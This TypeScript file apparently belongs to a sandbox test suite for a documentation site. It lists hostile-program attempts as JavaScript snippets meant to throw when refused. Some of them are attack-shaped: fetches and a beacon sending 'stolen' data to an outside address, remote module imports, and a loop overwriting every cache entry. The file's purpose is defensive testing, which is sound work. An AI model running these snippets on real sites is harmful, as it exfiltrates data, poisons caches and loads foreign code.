/**
 * Attempts of a hostile program, each as statements that throw where they are refused. `site` is the docs' own address,
 * `elsewhere` that of a script of somebody else's.
 */
export function attempts(site: string, elsewhere: string): Readonly<Record<string, string>> {
  const opened = (request: string): string =>
    `await new Promise((done, fail) => { const r = ${request}; r.onsuccess = done; r.onerror = () => fail(r.error); });`;
  const listening = (source: string): string =>
    `await new Promise((done, fail) => { const s = ${source}; s.onopen = s.onmessage = done; s.onerror = () => fail(Error("closed")); });`;
  /** The same in a worker that the program starts itself. */
  const inWorker = (statements: string): string => {
    const script = `(async () => { ${statements} })().then(() => postMessage(""), (error) => postMessage(String(error)))`;
    return `await new Promise((done, fail) => {
      const own = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: "text/javascript" })));
      own.onmessage = ({ data }) => (data === "" ? done : fail)(Error(data));
      own.onerror = () => fail(Error("closed"));
    });`;
  };
  return {
    "lists the caches": "await caches.keys();",
    "opens a cache": 'await caches.open("mine");',
    "replaces what is cached": `const response = () => new Response("<h1>owned</h1>", { headers: { "Content-Type": "text/html" } });
       for (const name of await caches.keys()) {
         const cache = await caches.open(name);
         for (const request of await cache.keys()) await cache.put(request, response());
       }`,
    "deletes a cache": 'await caches.delete("mine");',
    "registers a service worker": 'await navigator.serviceWorker.register("/sw.js");',
    "asks for the service workers": "await navigator.serviceWorker.getRegistrations();",
    "writes localStorage": 'localStorage.setItem("mine", "1");',
    "writes sessionStorage": 'sessionStorage.setItem("mine", "1");',
    "writes a cookie": 'document.cookie = "mine=1";',
    "writes to the cookie store": 'await cookieStore.set("mine", "1");',
    "opens a database": opened('indexedDB.open("mine")'),
    "opens the private file system": "await navigator.storage.getDirectory();",
    "takes a lock": 'await navigator.locks.request("mine", () => {});',
    "reads the page that holds it": "parent.document.title;",
    "reads the top page": "top.document.title;",
    "leaves with the top page": `top.location = "${elsewhere}";`,
    "leaves with its own page": `location.assign("${elsewhere}");`,
    "opens a window": `open("${elsewhere}").focus();`,
    "fetches a page of the site": `await fetch("${site}");`,
    "fetches a page of the site, unread": `await fetch("${site}", { mode: "no-cors" });`,
    "fetches by a relative address": 'await fetch("/");',
    "fetches from elsewhere": `await fetch("${elsewhere}?stolen");`,
    "fetches from elsewhere, unread": `await fetch("${elsewhere}?stolen", { mode: "no-cors" });`,
    "asks with XMLHttpRequest": `const r = new XMLHttpRequest(); r.open("GET", "${site}", false); r.send();`,
    "opens a WebSocket": listening(`new WebSocket("${elsewhere.replace("http", "ws")}")`),
    "listens to a server": listening(`new EventSource("${site}")`),
    "opens a WebTransport": `const t = new WebTransport("${elsewhere.replace("http:", "https:")}"); t.closed.catch(() => {}); await t.ready;`,
    "imports a script of the site": `importScripts("${site}sw.js");`,
    "imports a script from elsewhere": `importScripts("${elsewhere}");`,
    "imports a script from a data: address": 'importScripts("data:text/javascript,self.owned=1");',
    "imports a script from a blob: address":
      'importScripts(URL.createObjectURL(new Blob(["self.owned=1"])));',
    "imports a module from elsewhere": `await import("${elsewhere}");`,
    "evaluates a text": 'eval("1");',
    "makes a function of a text": 'new Function("return 1")();',
    "imports behind the compiler's back": `await new Function("return import('${elsewhere}')")();`,
    "starts a worker of the site": listening(`new Worker("${site}sw.js")`),
    "starts a worker of a data: address": listening('new Worker("data:text/javascript,postMessage(1)")'),
    "fetches in a worker of its own": inWorker(`await fetch("${elsewhere}", { mode: "no-cors" });`),
    "fetches the site in a worker of its own": inWorker(`await fetch("${site}");`),
    "imports a module in a worker of its own": inWorker(`await import("${elsewhere}");`),
    "imports the site in a worker of its own": inWorker(`await import("${site}sw.js");`),
    "imports data: in a worker of its own": inWorker('await import("data:text/javascript,1");'),
    "imports blob: in a worker of its own": inWorker(
      'await import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })));',
    ),
    "evaluates a text in a worker of its own": inWorker('eval("1");'),
    "lists the caches in a worker of its own": inWorker("await caches.keys();"),
    "starts a shared worker": `new SharedWorker("${site}sw.js");`,
    "shows a notification":
      'if ((await Notification.requestPermission()) === "granted") new Notification("mine"); else throw Error("denied");',
    "asks where the reader is":
      "await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail));",
    "connects to a peer": "new RTCPeerConnection();",
    "sends a beacon": `navigator.sendBeacon("${site}", "stolen");`,
    "opens a paint worklet": `await CSS.paintWorklet.addModule("${elsewhere}");`,
  };
}
